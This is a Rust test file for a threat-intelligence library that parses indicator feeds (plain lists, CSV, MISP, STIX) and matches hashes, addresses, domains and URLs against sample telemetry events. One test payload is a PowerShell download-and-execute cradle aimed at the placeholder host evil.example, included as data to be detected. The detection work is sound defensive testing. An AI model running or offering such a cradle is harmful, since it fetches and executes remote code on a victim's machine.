//! Feeds as they are handed around, and events that have what they list.

use cybervault_indicators::{Builder, Feed, FeedReport, Format, Found, Indicators, Kind};
use cybervault_model::{
    EventKind, Level, SentTime, Source, TelemetryEvent,
    json::{Limits, Reader},
};
use proptest::prelude::*;

const SHA256: &str = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
const MD5: &str = "44d88612fea8a8f36de82e1278abb02f";

fn feed(name: &str) -> Feed {
    Feed { name: name.to_owned(), ..Feed::default() }
}

fn read(feed: &Feed, text: &str) -> (Indicators, FeedReport) {
    let mut builder = Builder::default();
    let report = builder.read(feed, text.as_bytes()).unwrap();
    (builder.finish(), report)
}

/// What the indicators find in an event of that time.
fn find(indicators: &Indicators, payload: &str, occurred_at: Option<&str>) -> Vec<Found> {
    let mut reader = Reader::new(Limits::default());
    let document = reader.read(payload.as_bytes()).unwrap();
    let event = TelemetryEvent {
        sent_id: None,
        tenant_id: "acme",
        kind: EventKind::Raw,
        sent_time: occurred_at.map(SentTime::Text),
        source: Source::default(),
        payload: document.top(),
        bytes: payload.as_bytes(),
        inside: None,
    };
    indicators.find(&event, None)
}

fn ids(indicators: &Indicators, payload: &str) -> Vec<String> {
    find(indicators, payload, None).into_iter().map(|found| found.id).collect()
}

#[test]
fn a_value_a_line_with_comments_and_other_programs_columns() {
    let text = format!(
        "\u{feff}# a list\n\n{SHA256}  eicar.com\n; another comment\n0.0.0.0 blocked.example # ads\n192.0.2.7\n\
         198.51.100.0/24\nhxxps://evil[.]example/x\n*.wild.example\nnot an indicator\n"
    );
    let (indicators, report) = read(&feed("list"), &text);
    assert_eq!(report.taken, [1, 0, 0, 0, 2, 2, 1]);
    assert_eq!(
        (report.failed, &*report.problems[0]),
        (1, "line 10: `not` is no hash, address, network, domain or URL")
    );
    for (payload, expected) in [
        (format!(r#"{{"Hashes":"MD5=00,SHA256={}"}}"#, SHA256.to_uppercase()), vec![format!("sha256:{SHA256}")]),
        (
            r#"{"a":[{"dst":"192.0.2.7"}],"b":"198.51.100.9:443"}"#.into(),
            vec!["ip:192.0.2.7".into(), "ip:198.51.100.0/24".into()],
        ),
        (r#"{"d":"type: 5 x.example;::ffff:192.0.2.7;"}"#.into(), vec!["ip:192.0.2.7".into()]),
        (r#"{"d":"SRC:192.0.2.7, up"}"#.into(), vec!["ip:192.0.2.7".into()]),
        (r#"{"QueryName":"a.b.Wild.Example."}"#.into(), vec!["domain:wild.example".into()]),
        (
            r#"{"c":"powershell IEX(New-Object Net.WebClient).DownloadString('HTTPS://Evil.example:443/x')"}"#.into(),
            vec!["url:https://evil.example/x".into()],
        ),
        (r#"{"c":"curl http://blocked.example/other"}"#.into(), vec!["domain:blocked.example".into()]),
        // Near misses.
        (
            format!(
                r#"{{"h":"{SHA256}0","i":"192.0.2.70","d":"notwild.example","u":"https://evil.example/xy","w":"192.0.2.7.1"}}"#
            ),
            vec![],
        ),
    ] {
        assert_eq!(ids(&indicators, &payload), expected, "{payload}");
    }
}

#[test]
fn columns_are_found_by_their_names_also_in_a_comment() {
    let text = format!(
        "type,value,confidence,valid_until,description\nip,203.0.113.5,90,2026-11-01,C2 of Nobody\n\
         domain,evil.example,20,,\nmd5,{MD5},,,\"a, b\"\nip,evil,1,,\nip,203.0.113.6,900,,\nip,203.0.113.7,1,soon,\n"
    );
    let (indicators, report) = read(&feed("vendor"), &text);
    assert_eq!((report.total(), report.failed), (3, 3));
    assert_eq!(
        report.problems,
        [
            "line 5: `evil` is no ip",
            "line 6: the confidence `900` is none of 0 to 100",
            "line 7: `soon` is no time such as 2026-11-02T09:00:00Z"
        ]
    );
    let of = |at| find(&indicators, r#"{"ip":"203.0.113.5"}"#, at);
    assert_eq!(of(Some("2026-10-31T23:59:59Z"))[0].title, "Address listed by vendor: C2 of Nobody");
    assert_eq!(of(Some("2026-11-01T00:00:00Z")), [], "it has expired by then");
    assert_eq!(of(None)[0].level, Level::High, "and an event of unknown time is found");
    assert_eq!(find(&indicators, r#"{"x":"evil.example"}"#, None)[0].level, Level::Low);

    let bazaar = format!(
        "# \"first_seen\",\"sha256_hash\",\"md5_hash\",\"signature\"\n\"2026-01-01\", \"{SHA256}\", \"n/a\", \"Eicar\"\n"
    );
    let (indicators, report) = read(&feed("bazaar"), &bazaar);
    assert_eq!((report.taken, report.failed), ([1, 0, 0, 0, 0, 0, 0], 0));
    assert!(find(&indicators, &format!(r#"{{"h":"{SHA256}"}}"#), None)[0].title.ends_with("Eicar"));

    let headless = Builder::default().read(&Feed { format: Some(Format::Csv), ..feed("x") }, "1,2\n".as_bytes());
    assert!(headless.unwrap_err().to_string().contains("must name the columns"));
}

#[test]
fn an_export_of_misp_brings_what_is_meant_to_be_looked_for() {
    let text = format!(
        r#"{{"response":[{{"Event":{{"info":"Campaign X","threat_level_id":"2","Attribute":[
            {{"type":"filename|sha256","value":"a.exe|{SHA256}","to_ids":true}},
            {{"type":"ip-dst|port","value":"203.0.113.5|443","to_ids":true}},
            {{"type":"domain","value":"harmless.example","to_ids":false}},
            {{"type":"comment","value":"hello","to_ids":true}},
            {{"type":"imphash","value":"xyz","to_ids":true}}],
            "Object":[{{"Attribute":[{{"type":"url","value":"http://evil.example/","to_ids":true}}]}}]}}}}]}}"#
    );
    let (indicators, report) = read(&feed("misp"), &text);
    assert_eq!((report.taken, report.failed), ([1, 0, 0, 0, 1, 0, 1], 1));
    let found = find(&indicators, &format!(r#"{{"a":{{"b":"{SHA256}"}}}}"#), None).remove(0);
    assert_eq!((found.level, &*found.title), (Level::Medium, "SHA-256 listed by misp: Campaign X"));
    assert_eq!(found.evidence[0].field, "a.b");
    assert_eq!(ids(&indicators, r#"{"x":"harmless.example"}"#), [""; 0]);
}

#[test]
fn a_bundle_of_stix_brings_patterns_of_single_values() {
    let indicator = |id: u8, pattern: &str, more: &str| {
        format!(r#"{{"type":"indicator","id":"indicator--{id}","pattern_type":"stix","pattern":"{pattern}"{more}}}"#)
    };
    let objects = [
        indicator(
            1,
            &format!("[file:hashes.'SHA-256' = '{SHA256}' OR file:hashes.MD5 = '{MD5}']"),
            r#","name":"Eicar","confidence":50"#,
        ),
        indicator(2, "[ipv4-addr:value IN ('203.0.113.5', '203.0.113.6')] OR [domain-name:value = 'evil.example']", ""),
        indicator(3, "[ipv4-addr:value = '203.0.113.9' AND url:value = 'http://x.example/']", ""),
        indicator(4, "[url:value = 'http://old.example/']", r#","revoked":true"#),
        indicator(5, "[process:name = 'a']", ""),
        r#"{"type":"malware","id":"malware--1"}"#.to_owned(),
    ];
    let (indicators, report) =
        read(&feed("stix"), &format!(r#"{{"type":"bundle","objects":[{}]}}"#, objects.join(",")));
    assert_eq!((report.taken, report.failed), ([1, 0, 1, 0, 2, 1, 0], 2));
    assert_eq!(
        report.problems,
        [
            "indicator--3: its pattern asks for more than single values joined by OR",
            "indicator--5: `process:name` is nothing that is looked up"
        ]
    );
    let found = find(&indicators, &format!(r#"{{"md5":"{MD5}"}}"#), None).remove(0);
    assert_eq!((found.level, &*found.title), (Level::Medium, "MD5 listed by stix: Eicar"));
    for broken in ["{\"type\":\"bundle\"", "{\"type\":\"bundle\",\"objects\":[{\"id\":1}]}"] {
        let error = Builder::default().read(&feed("x"), broken.as_bytes()).unwrap_err();
        assert!(error.to_string().starts_with("is no bundle of STIX 2.1"), "{error}");
    }
}

#[test]
fn of_what_several_feeds_say_the_heaviest_that_is_still_valid_counts() {
    let mut builder = Builder::default();
    let high = Feed { level: Some(Level::Critical), ..feed("a") };
    builder.read(&high, "value,valid_until\nevil.example,2026-06-01\n".as_bytes()).unwrap();
    builder.read(&Feed { confidence: Some(10), ..feed("b") }, "evil.example\n".as_bytes()).unwrap();
    let indicators = builder.finish();
    let level = |at| find(&indicators, r#"{"x":"www.evil.example"}"#, Some(at))[0].level;
    assert_eq!(level("2026-05-01T00:00:00Z"), Level::Critical);
    assert_eq!(level("2026-07-01T00:00:00Z"), Level::Low);
}

#[test]
fn an_imphash_is_told_from_an_md5_by_its_tag_or_field() {
    let (indicators, _) = read(&Feed { kind: Some(Kind::Imphash), ..feed("x") }, &format!("{MD5}\n"));
    for (payload, is_found) in [
        (format!(r#"{{"Hashes":"IMPHASH={MD5}"}}"#), true),
        (format!(r#"{{"Imphash":"{MD5}"}}"#), true),
        (format!(r#"{{"Hashes":"MD5={MD5}"}}"#), false),
        (format!(r#"{{"Hash":"{MD5}"}}"#), false),
    ] {
        assert_eq!(!ids(&indicators, &payload).is_empty(), is_found, "{payload}");
    }
}

#[test]
fn the_version_is_that_of_what_is_listed() {
    let of = |name: &str, text: &str| read(&feed(name), text).0.version().to_owned();
    let version = of("a", "evil.example\n");
    assert_eq!(version, of("a", "# comment\nEVIL.example.\n"));
    assert!(
        [of("b", "evil.example\n"), of("a", "evil.example\nx.example\n"), String::new()]
            .iter()
            .all(|other| *other != version)
    );
    assert_eq!(Builder::default().finish().version(), "");
}

proptest! {
    /// Whatever stands around a listed value, it is found, and nothing else ever is.
    #[test]
    fn what_is_listed_is_found_and_nothing_else(before in "[a-z =(\"',;/\\\\@é]{0,8}", after in "[ )\"',;/\\\\]{0,3}", digest in "[0-9a-f]{64}") {
        let (indicators, _) = read(&feed("x"), &format!("{SHA256}\n"));
        let event = |value: &str| serde_json::json!({"a": {"b": [format!("{before} {value}{after}")]}}).to_string();
        prop_assert_eq!(ids(&indicators, &event(SHA256)).len(), 1);
        prop_assert_eq!(ids(&indicators, &event(&digest)).len(), usize::from(digest == SHA256));
    }

    /// No feed and no event can make it panic.
    #[test]
    fn any_bytes_are_read_as_a_feed(text in ".{0,200}", kind in 0..5_usize) {
        let format = [None, Some(Format::Plain), Some(Format::Csv), Some(Format::Misp), Some(Format::Stix)][kind];
        let mut builder = Builder::default();
        let _ = builder.read(&Feed { format, ..feed("x") }, text.as_bytes());
        let (list, _) = read(&feed("y"), "192.0.2.7\nevil.example\nhttp://evil.example/\n");
        let _ = find(&list, &serde_json::json!({"a": text}).to_string(), None);
        let _ = find(&builder.finish(), &serde_json::json!({"a": text}).to_string(), None);
    }
}
